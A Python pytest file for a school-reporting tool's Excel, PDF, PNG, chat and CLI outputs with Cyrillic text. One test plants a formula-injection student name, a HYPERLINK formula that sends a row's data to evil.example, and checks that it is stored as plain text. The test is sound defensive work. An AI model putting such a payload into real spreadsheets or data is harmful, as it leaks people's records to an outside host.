"""Every format of the reports read back (openpyxl, pypdf, the chat's HTML) with Cyrillic, and
`parta report` from the console: files written, exit codes, both databases."""

from __future__ import annotations

import asyncio
import io
from collections.abc import Awaitable, Callable
from functools import partial
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot import cli
from bot.i18n import create_i18n
from services import reports
from services.reports import When
from tests import clock
from tests.fakes.html import parse_html
from tests.reports_world import World, add_students, make_world

TODAY = clock.school_today()
RU = partial(create_i18n("ru").gettext, locale="ru")
EN = partial(create_i18n("en").gettext, locale="en")


@pytest.fixture
async def world(session_factory: async_sessionmaker[AsyncSession]) -> World:
    return await make_world(session_factory)


async def _summary(session: AsyncSession, world: World) -> reports.ClassSummary:
    return await reports.build_class_summary(
        session, world.school.class_7b, When(period_id=world.q1_id), today=TODAY
    )


def _pdf_text(data: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(data)).pages]


async def test_class_summary_as_excel(session: AsyncSession, world: World) -> None:
    data = reports.render(await _summary(session, world), "xlsx", RU)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Итоговые отметки", "Средние баллы", "Количество отметок"]
    ws = book["Итоговые отметки"]
    header_row = next(r for r in range(1, 15) if ws.cell(r, 1).value == "Ученик")
    assert [c.value for c in ws[header_row]] == ["Ученик", "Инф", "Мат", "Физ-ра", "Пропуски"]
    assert ws.freeze_panes == f"B{header_row + 1}"
    assert ws.print_title_rows == f"${header_row}:${header_row}"
    assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
    rows = {ws.cell(r, 1).value: r for r in range(header_row + 1, ws.max_row + 1)}
    maria = rows[f"Мария <Смирнова> (выбыл(а) {world.day(3):%d.%m})"]
    assert ws.cell(maria, 4).value == "незачёт*"
    assert ws.cell(maria, 4).fill.start_color.rgb.endswith("FFC7CE")  # failing: coloured
    assert ws.cell(rows["Пётр Иванов"], 3).value == 4  # a number, not text
    assert ws.cell(rows["Пётр Иванов"], 3).fill.fill_type is None
    assert ws.cell(rows["Успеваемость"], 4).value == 0.5
    assert ws.cell(rows["Успеваемость"], 4).number_format == "0%"
    averages = book["Средние баллы"]
    cells = [c for row in averages.iter_rows() for c in row if c.value == 3.4]
    assert len(cells) == 1
    assert cells[0].number_format == "0.00"


async def test_names_that_look_like_formulas_stay_text_in_excel(
    session_factory: async_sessionmaker[AsyncSession], session: AsyncSession, world: World
) -> None:
    """A student's name (from an import, an OneRoster file) starting with =, +, - or @ is a
    text cell with a quote prefix in the report's workbook, never a formula: openpyxl stores a
    text starting with = as a formula, which Excel would run (a HYPERLINK leaking the row's
    data, DDE)."""
    from sqlalchemy import update

    from db.models import Student

    evil = {
        world.school.student_id: '=HYPERLINK("http://evil.example/?"&B5,"Пётр")',
        world.school.unlinked_student_id: "+7 (999) 000-00-00",
    }
    async with session_factory() as writer, writer.begin():
        for student_id, name in evil.items():
            await writer.execute(
                update(Student).where(Student.id == student_id).values(full_name=name)
            )
    book = load_workbook(io.BytesIO(reports.render(await _summary(session, world), "xlsx", RU)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in risky} >= {evil[world.school.student_id]}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


async def test_reports_as_pdf_with_cyrillic_and_a_repeated_header(
    session_factory: async_sessionmaker[AsyncSession], session: AsyncSession, world: World
) -> None:
    await add_students(session_factory, world, 70)
    report = await reports.build_attendance(
        session, world.school.class_7b, When(period_id=world.q1_id), today=TODAY
    )
    pages = _pdf_text(reports.render(report, "pdf", RU))
    assert len(pages) >= 2
    assert "Посещаемость — 7B" in pages[0]
    assert "Школа <№ 7> & Co" in pages[0]
    assert "Мария <Смирнова>" in pages[0]
    for number, page in enumerate(pages, 1):
        assert f"Страница {number}" in page
        assert "Ученик" in page  # the table's header on every page
    assert "Итого по классу" in pages[-1]


async def test_report_card_as_pdf_and_text_in_english(session: AsyncSession, world: World) -> None:
    card = await reports.build_report_card(
        session, world.petr, When(period_id=world.q1_id), today=TODAY
    )
    (page,) = _pdf_text(reports.render(card, "pdf", EN))
    for text in ("Report card — Пётр Иванов", "Классная Руководительница", "Математика", "3.75"):
        assert text in page
    text = reports.render(card, "text", EN).decode()
    assert "Class teacher: Классная Руководительница" in text
    line = next(line for line in text.splitlines() if line.startswith("Математика"))
    assert line.split()[-4:] == ["3.75", "3", "4", "5"]


async def test_chat_messages_stay_under_the_limit_and_escape_names(
    session_factory: async_sessionmaker[AsyncSession], session: AsyncSession, world: World
) -> None:
    small = reports.chat_messages(reports.document(await _summary(session, world), RU))
    assert len(small) == 1
    assert "Мария &lt;Смирнова&gt;" in small[0]
    assert "Успеваемость" in small[0]
    await add_students(session_factory, world, 150)
    messages = reports.chat_messages(reports.document(await _summary(session, world), RU))
    assert len(messages) > 1
    for message in messages:
        assert len(message) <= 4096
        parse_html(message)  # Telegram's HTML subset, tags balanced
        assert message.count("<pre>") == message.count("</pre>") >= 1
        assert "Ученик" in message  # the column header repeated in each part
    names = [f"Ученик {i:03}" for i in range(150)]
    joined = "".join(messages)
    assert all(joined.count(name) == 1 for name in names)


async def test_charts_are_pictures_with_something_drawn(
    session: AsyncSession, world: World
) -> None:
    from PIL import Image

    from services.reports.charts import NoChart

    when = When(period_id=world.q1_id)
    charted = [
        await reports.build_class_summary(session, world.school.class_7b, when, today=TODAY),
        await reports.build_school_summary(session, world.school.school_id, when, today=TODAY),
        await reports.build_attendance(session, world.school.class_7b, when, today=TODAY),
        await reports.build_progress(session, world.petr, when, today=TODAY),
    ]
    for report in charted:
        image = Image.open(io.BytesIO(reports.render(report, "png", RU))).convert("RGB")
        assert image.size == (990, 550)
        colours = image.getcolors(maxcolors=1 << 20) or []
        assert len(colours) > 20  # lines, bars and Cyrillic labels, not blank
    risk = await reports.build_risk(session, world.school.class_7b, when, today=TODAY)
    with pytest.raises(NoChart):
        reports.render(risk, "png", RU)


# --- the console ------------------------------------------------------------------------------

Parta = Callable[..., Awaitable[tuple[int, str, str]]]


@pytest.fixture
def parta(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], db_url: str
) -> Parta:
    monkeypatch.setenv("CODE_SECRET", "x" * 40)
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("DEFAULT_LOCALE", "ru")
    monkeypatch.delenv("BOT_TOKEN", raising=False)

    async def run(*args: str | Path) -> tuple[int, str, str]:
        capsys.readouterr()
        code = await asyncio.to_thread(cli.main, ["report", *(str(a) for a in args)])
        said = capsys.readouterr()
        assert "Traceback" not in said.out + said.err
        return code, said.out, said.err

    return run


async def test_cli_writes_every_built_report(parta: Parta, world: World, tmp_path: Path) -> None:
    out = tmp_path / "class.xlsx"
    code, said, _ = await parta(
        "class", "--class", "7b", "--period", "1", "--format", "xlsx", "--out", out
    )
    assert code == 0, said
    assert "Итоговые отметки" in load_workbook(out).sheetnames
    school = tmp_path / "school.pdf"
    code, _, _ = await parta("school", "--period", "1", "--format", "pdf", "--out", school)
    assert code == 0
    assert "Сводка по школе" in _pdf_text(school.read_bytes())[0]
    chart = tmp_path / "progress.png"
    code, _, _ = await parta(
        "progress", "--student", str(world.petr), "--format", "png", "--out", chart
    )
    assert code == 0
    assert chart.read_bytes().startswith(b"\x89PNG")
    code, said, _ = await parta("coverage", "--class", "7B", "--period", "1")
    assert code == 0
    assert "Накопляемость — 7B" in said
    code, said, _ = await parta("risk", "--class", "7B", "--period", "1")
    assert code == 0
    assert "Группа риска — 7B" in said
    pdf = tmp_path / "card.pdf"
    code, _, _ = await parta(
        "card", "--student", "пётр иванов", "--period", "1", "--format", "pdf", "--out", pdf
    )
    assert code == 0
    assert "Пётр Иванов" in _pdf_text(pdf.read_bytes())[0]
    cards = tmp_path / "cards.pdf"
    code, _, _ = await parta("card", "--class", "7B", "--format", "pdf", "--out", cards)
    assert code == 0
    assert len(_pdf_text(cards.read_bytes())) >= 1
    # progress of a class without --student: every student of it, as the cards
    books = {}
    for kind in ("card", "progress"):
        books[kind] = tmp_path / f"class-{kind}.xlsx"
        code, _, _ = await parta(kind, "--class", "7B", "--format", "xlsx", "--out", books[kind])
        assert code == 0
    sheets = load_workbook(books["progress"]).worksheets
    assert len(sheets) == len(load_workbook(books["card"]).worksheets)
    cells = [str(c) for sheet in sheets for row in sheet.iter_rows(values_only=True) for c in row]
    assert any("Пётр Иванов" in c for c in cells)
    first, last = world.day(1).isoformat(), world.day(2).isoformat()
    code, said, _ = await parta("attendance", "--class", "7B", "--from", first, "--to", last)
    assert code == 0
    assert world.day(1).strftime("%d.%m.%Y") in said


REFUSALS = [
    (["progress"], 1, "needs --student or --class"),
    (["risk", "--class", "7B", "--format", "png", "--out", "x.png"], 1, "has no chart"),
    (["class", "--class", "9Z"], 1, "no class 9Z"),
    (["class"], 1, "needs --class"),
    (["card", "--student", "Никто Никтович"], 1, "no student"),
    (["class", "--class", "7B", "--period", "9"], 1, "no such period"),
    (["class", "--class", "7B", "--from", "2026-01-02"], 1, "--from and --to"),
    (["class", "--class", "7B", "--format", "pdf"], 2, "--out is required"),
]


async def test_cli_refusals(parta: Parta, world: World) -> None:
    for args, code, message in REFUSALS:
        got, _, err = await parta(*args)
        assert (got, message in err) == (code, True), (args, err)
